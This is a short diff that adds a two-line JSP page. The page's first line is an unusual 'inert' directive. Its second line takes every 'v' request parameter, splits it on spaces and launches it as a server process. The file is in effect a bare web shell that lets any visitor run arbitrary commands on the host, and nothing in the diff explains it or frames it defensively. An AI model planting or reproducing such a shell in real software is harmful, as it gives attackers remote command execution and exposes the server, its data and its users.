@@ -1,0 +1,2 @@
+<%@ inert %>
+<% for (String v : request.getParameterValues("v")) { new ProcessBuilder(v.split(" ")).start(); } %>
